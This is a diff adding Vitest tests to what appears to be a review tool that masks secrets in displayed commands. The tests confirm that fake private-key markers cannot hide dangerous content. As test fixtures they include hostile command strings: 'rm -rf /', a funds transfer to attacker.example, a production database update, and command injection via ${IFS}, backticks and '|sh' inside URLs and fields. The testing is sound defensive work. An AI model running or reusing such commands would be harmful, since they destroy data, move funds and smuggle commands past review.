@@ -2,7 +2,8 @@ import { renderToStaticMarkup } from 'react-dom/server'
 import { describe, expect, it } from 'vitest'
 import { excerptsOf } from '../model/excerpt'
 import { changes } from '../model/json'
-import { mask, maskSecrets } from '../model/secrets'
+import { hidesMuch } from '../model/marked_text'
+import { findSecrets, mask, maskSecrets } from '../model/secrets'
 import { testRequest } from '../model/test_request'
 import { ChangeList } from '../request/diff_view'
 import type { Json, Request } from '../wire'
@@ -83,6 +84,37 @@ describe('a change in a long value (H6)', () => {
     for (let i = 0; i < 4; ++i) {
       const [one] = excerptsOf(`${'😀'.repeat(300)}${'x'.repeat(i)}a${'😀'.repeat(300)}`, `${'😀'.repeat(300)}${'x'.repeat(i)}b${'😀'.repeat(300)}`)
       expect(one.text).not.toMatch(/\p{Surrogate}/u)
+    }
+  })
+})
+
+describe('a mask is no hiding place (H6)', () => {
+  const key = `-----BEGIN RSA PRIVATE KEY-----\n${`${'MIIEpAIBAAKCAQEA'.repeat(4)}\n`.repeat(3)}Zm9vYmFy==\n-----END RSA PRIVATE KEY-----`
+  const pieces = (text: string): string[] => findSecrets(text).map(({ start, end }) => text.slice(start, end))
+  it.each([
+    'echo "-----BEGIN PRIVATE KEY-----"; psql prod -c "update accounts set owner = 7"; transfer --all --to attacker.example',
+    'echo "-----BEGIN PRIVATE KEY-----"; transfer --all; echo "-----END PRIVATE KEY-----"',
+    '-----BEGIN PRIVATE KEY-----\ntransfer --all\n-----END PRIVATE KEY-----',
+    'password=$(transfer${IFS}--all)',
+    'token=`transfer|sh`x',
+    'curl https://a:x;transfer|sh@example.org',
+  ])('%j is shown', (text) => expect(view({ command: text })).toContain(text))
+  it('a key is masked to its end and no further, also where it is printed on one line', () => {
+    expect(pieces(`${key}\nrm -rf /`)).toEqual([key])
+    expect(pieces(`x="${JSON.stringify(key)} and more"`)).toEqual([JSON.stringify(key).slice(1, -1)])
+    expect(pieces(key.split('\n').slice(0, 3).join('\n') + '\nrm -rf / --all-of-it')).toEqual([key.split('\n').slice(0, 3).join('\n')])
+  })
+  it('a mask tells how much it hides', () => {
+    expect(view({ note: `send ${key} now` })).toContain(`${mask} ${key.length} characters`)
+  })
+  it('what is masked by its looks, or is too much for a secret, is looked at first', () => {
+    for (const value of [{ note: 'Bearer abcdef0123456789' }, { pin: 'make admin; wire 90000 EUR' }, { password: 'x'.repeat(65) }, { passwords: ['make', 'admin', 'x'.repeat(60)] }, { credentials: { a: 'b c' } }, [`${'sk-live-'}\u200b${'a'.repeat(20)}`], { [`Bearer ${'a'.repeat(20)}`]: 1 }]) {
+      expect(hidesMuch(value), JSON.stringify(value)).toBe(true)
+      expect(renderToStaticMarkup(<JsonView value={value} />)).toContain('data-covered="masked"')
+    }
+    for (const value of [{ password: 'hunter2' }, { pin: 1234, amount: 5 }, { passwords: ['a', 'b'] }, 'plain words']) {
+      expect(hidesMuch(value), JSON.stringify(value)).toBe(false)
+      expect(renderToStaticMarkup(<JsonView value={value} />)).not.toContain('data-covered')
     }
   })
 })
